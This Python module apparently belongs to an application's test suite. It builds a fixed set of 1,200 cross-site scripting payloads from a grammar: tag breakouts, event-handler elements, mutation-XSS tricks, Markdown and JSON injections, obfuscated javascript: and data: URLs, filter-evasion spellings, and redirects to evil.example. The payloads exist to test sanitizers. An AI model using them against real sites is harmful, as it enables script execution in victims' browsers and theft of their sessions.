"""Texts that are made to run in a reader's browser: drawn from a grammar, the same ones each time.

A text breaks out of where it stands, opens something that runs,
and is spelled in a way that a careless filter passes.
Each that runs would open a dialog or set `window.hacked`.
"""

import random
from base64 import b64encode
from collections.abc import Callable, Iterator
from html import escape
from urllib.parse import quote

from app.formats.encoding import unusable

COUNT = 1_200

_CODE = [
    "alert(1)",
    "top.hacked=1",
    "confirm`1`",
    "window['hacked']=1",
    "[].map.constructor('hacked=1')()",
    "prompt(1)",
]

_BREAKOUTS = [
    *(
        "",
        "",
        "",
        '"',
        "'",
        "`",
        '">',
        "'>",
        "`>",
        " >",
        "/>",
        "-->",
        "--!>",
        "]]>",
        "?>",
        "*/",
        '"};',
        "\\",
        '\\"',
        "\u2028",
    ),
    *(
        f"</{tag}>"
        for tag in ("title", "textarea", "style", "script", "noscript", "template", "xmp", "svg", "math", "a")
    ),
    *(
        f"</{tag}>"
        for tag in ("select", "iframe", "noembed", "plaintext", "p", "h1", "li", "figcaption", "option", "dialog")
    ),
]  # fmt: skip

_ELEMENTS = [
    "<script>{code}</script>",
    "<script src={url}></script>",
    "<script src='data:text/javascript,{code}'></script>",
    "<script>/*</script><script>*/{code}</script>",
    "<script type=module>import 'data:text/javascript,{code}'</script>",
    "<img src=x onerror={code}>",
    "<img/src=x/onerror={code}>",
    '<img src="x" title="a" onerror="{code}">',
    "<img src='x' srcset='{url} 1x' onerror='{code}'>",
    "<svg onload={code}>",
    "<svg/onload={code}//",
    "<svg><script>{code}</script></svg>",
    "<svg><script href='data:text/javascript,{code}' />",
    "<svg><a xlink:href='{url}'><text y=20>x</text></a></svg>",
    "<svg><animate onbegin={code} attributeName=x dur=1s>",
    "<svg><a><animate attributeName=href values='{url}' /><text y=20>x</text></a>",
    "<svg><set attributeName=onmouseover to='{code}'>",
    "<svg><use href='data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg onload={code}>#x' />",
    "<svg><foreignObject><iframe onload={code}></foreignObject>",
    "<math href='{url}'>x</math>",
    "<math><maction actiontype=statusline xlink:href='{url}'>x</maction></math>",
    "<body onload={code}>",
    "<iframe src='{url}'></iframe>",
    '<iframe srcdoc="&lt;script>{code}&lt;/script>"></iframe>',
    "<object data='{url}'></object>",
    "<embed src='{url}'>",
    "<details open ontoggle={code}>x</details>",
    "<video><source onerror={code}></video>",
    "<audio src=x onerror={code}>",
    "<input autofocus onfocus={code}>",
    "<select autofocus onfocus={code}></select>",
    "<marquee onstart={code}>x</marquee>",
    "<form action='{url}'><button>x</button></form>",
    "<form><button formaction='{url}'>x</button></form>",
    "<isindex action='{url}' type=image>",
    "<a href='{url}'>x</a>",
    "<a href={url}>x",
    "<area href='{url}'>",
    "<base href='{url}'>",
    "<base href=//evil.example/>",
    "<link rel=stylesheet href='{url}'>",
    "<link rel=import href='{url}'>",
    "<meta http-equiv=refresh content='0;url={url}'>",
    '<meta http-equiv=Content-Security-Policy content="default-src *">',
    "<style>@import '{url}'; *{{background:url({url})}}</style>",
    "<div style='background:url({url});width:expression({code})'>x</div>",
    "<p style=animation-name:x onanimationstart={code}>x</p>",
    "<table background='{url}'><td background='{url}'>x</td></table>",
    "<x onclick={code} id=x tabindex=1 onfocus={code}>x</x>",
    "<template><script>{code}</script></template>",
    "<dialog open onclose={code}>x</dialog>",
    "<button popovertarget=x onclick={code}>x</button>",
    "<textarea autofocus onfocus={code}>",
    " onerror={code} src=x ",
    " autofocus onfocus={code} x=",
    " onmouseover={code} style=position:fixed;inset:0 ",
]

_MUTATING = [
    '<noscript><p title="</noscript><img src=x onerror={code}>">',
    '<svg></p><style><a id="</style><img src=x onerror={code}>">',
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror={code}&gt;">',
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror={code}>",
    "<svg><style><img src=x onerror={code}></style></svg>",
    '<xmp><p title="</xmp><svg/onload={code}>">',
    '<title><a id="</title><img src=x onerror={code}>">',
    "<!--><img src=x onerror={code}>-->",
    "<!-- --!><img src=x onerror={code}> -->",
    "<![CDATA[><img src=x onerror={code}>]]>",
    "<?xml-stylesheet href='{url}'?><img src=x onerror={code}>",
    "<!DOCTYPE x [<!ENTITY e SYSTEM '{url}'>]><x>&e;</x>",
    "<table><tr><td><select><script>{code}</script></select></td></tr></table>",
    "<svg><desc><table><img src=x onerror={code}></table></desc></svg>",
    "<style><!--</style><script>{code}</script>--></style>",
    "<!--<script>--><script>{code}</script>",
    "<script><!--<script></script><img src=x onerror={code}></script>",
    '<p id="</p><img src=x onerror={code}>">',
    "<plaintext><img src=x onerror={code}>",
]

_MARKDOWN = [
    "[x]({url})",
    "[x](<{url}>)",
    '[x]({url} "t")',
    "<{url}>",
    "![x]({url})",
    "[![x]({url})]({url})",
    "[x][y]\n\n[y]: {url}",
    "[y]\n\n[y]: <{url}> 'a\" onclick={code} \"'",
    '[x](/y "a\\" onmouseover={code} \\"")',
    '![x" onerror="{code}](/y)',
    '```js" onload="{code}\nx\n```',
    "| <img src=x onerror={code}> |\n|-|\n| [x]({url}) |",
    "— <svg onload={code}>",
    "`<img src=x onerror={code}>`",
    '[x](https://evil.example/" onclick="{code})',
    "[<img src=x onerror={code}>](/y)",
    '<https://evil.example/"onclick={code}>',
    "[a](/\\evil.example)",
    "[a](//evil.example)",
    "# <svg onload={code}>",
    "[x](javascript&colon;{code})",
    "[x](\\javascript:{code})",
    "\\<script>{code}</script>",
    "<script\n>{code}</script\n>",
]  # fmt: skip

_DATA = [
    '"}}</script><script>{code}</script>',
    "</script><img src=x onerror={code}>",
    '"+{code}+"',
    "';{code}//",
    "\\u003cimg src=x onerror={code}>",
    '"}},"@id":"{url}","x":{{"y":"',
    "\u2028{code}\u2029",
    "{{{{{code}}}}}",
    "${{{code}}}",
    "{{% raw %}}{code}",
    "%(title)s%s%n<svg onload={code}>",
    "]]><script xmlns='http://www.w3.org/1999/xhtml'>{code}</script>",
    "<x:script xmlns:x='http://www.w3.org/1999/xhtml'>{code}</x:script>",
    "</title></entry><entry><content type='xhtml'><script>{code}</script>",
    "&e;<!ENTITY e '{code}'>",
    "+ADw-script+AD4-{code}+ADw-/script+AD4-",
    "＜script＞{code}＜/script＞",
    "‹script›{code}",
    "\r\n\r\n<script>{code}</script>",
    "%3Cscript%3E{code}%3C/script%3E",
    "%0d%0aX-Evil: 1",
]  # fmt: skip


def _urls(code: str) -> list[str]:
    """Addresses that run."""
    page = f"<script>{code}</script>"
    return [
        f"javascript:{code}",
        f"JaVaScRiPt:{code}",
        f"java\tscript:{code}",
        f"java\nscript:{code}",
        f" javascript:{code}",
        f"javascript://x%0a{code}",
        f"&#106;avascript:{code}",
        f"&#x6A;avascript&#58;{code}",
        f"java&Tab;script&colon;{code}",
        f"javascript&#0000058{code}",
        f"%6aavascript:{code}",
        f"vbscript:{code}",
        f"livescript:{code}",
        f"feed:javascript:{code}",
        f"data:text/html,{page}",
        f"data:text/html;base64,{b64encode(page.encode()).decode()}",
        f"DATA:image/svg+xml,<svg onload={code}>",
        f"data:text/html,{quote(page)}",
        f"view-source:javascript:{code}",
        f"blob:{code}",
        "//evil.example/x",
        "/\\evil.example",
        "\\\\evil.example",
        f"https:javascript:{code}",
        f"jar:javascript:{code}!/",
        f"about:blank#{code}",
        f"filesystem:{code}",
        f"ｊavascript:{code}",
    ]  # fmt: skip


def _mixed(text: str) -> str:
    return "".join(letter.upper() if place % 2 else letter for place, letter in enumerate(text))


_SPELLINGS: list[Callable[[str], str]] = [
    *([str] * 8),
    lambda text: _mixed(text) if "hacked" not in text and "evil" not in text else text,
    lambda text: text.replace(" ", "\n"),
    lambda text: text.replace(" ", "/"),
    lambda text: text.replace(" ", "\t"),
    lambda text: text.replace("=", " = "),
    lambda text: text.replace("(1)", "`1`"),
    lambda text: text.replace("a", "&#97;", 1),
    lambda text: text.replace("<", "<<"),
    lambda text: text.replace(">", " x>", 1),
    lambda text: text.removesuffix(">"),
    lambda text: text.replace("'", '"'),
    lambda text: text.replace("'", "`"),
    escape,
    lambda text: escape(escape(text)),
    quote,
    lambda text: f"{text}<!--",
    lambda text: f"{text}{escape(text)}",
    lambda text: f"a{text}b",
]


def payloads() -> tuple[str, ...]:
    """Return `COUNT` different texts; every construct of the grammar is in several of them."""
    seen: dict[str, None] = {}
    drawn = _drawn(random.Random(4))  # noqa: S311  # the same texts on every machine, and no secret
    while len(seen) < COUNT:
        seen[next(drawn)] = None
    return tuple(seen)


def _drawn(chance: random.Random) -> Iterator[str]:
    constructs = [*_ELEMENTS, *_MUTATING, *_MARKDOWN, *_DATA]
    while True:
        for construct in constructs:
            code = chance.choice(_CODE)
            core = construct.format(code=code, url=chance.choice(_urls(code)))
            text = chance.choice(_BREAKOUTS) + chance.choice(_SPELLINGS)(core)
            if not unusable(text) and "\r" not in text:  # what comes in has neither (`formats.encoding`, `lines.unix`)
                yield text
